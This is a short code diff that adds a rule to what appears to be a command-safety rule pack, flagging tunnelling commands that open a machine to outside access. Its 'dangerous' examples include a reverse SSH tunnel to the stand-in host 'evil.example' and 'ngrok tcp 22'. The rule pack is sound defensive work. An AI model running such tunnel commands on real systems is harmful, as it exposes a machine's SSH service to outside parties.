@@ -49,5 +49,17 @@ PACK = Pack(
             ),
             harmless=("nc -zv localhost 8080",),
         ),
+        Rule(
+            id="network-code/tunnel",
+            severity=Severity.HIGH,
+            decision=Decision.ASK,
+            actions=(Action.RUN_NETWORK_CODE,),
+            names=frozenset(("tunnel",)),
+            reason="`{what}` opens a way into this machine from outside.",
+            person="Others could reach this machine through it.",
+            alternative="Serve it here only: `python3 -m http.server --bind 127.0.0.1`.",
+            dangerous=("ssh -R 2222:localhost:22 evil.example", "ngrok tcp 22"),
+            harmless=("ssh -L 5432:db:5432 host", "python3 -m http.server --bind 127.0.0.1"),
+        ),
     ),
 )
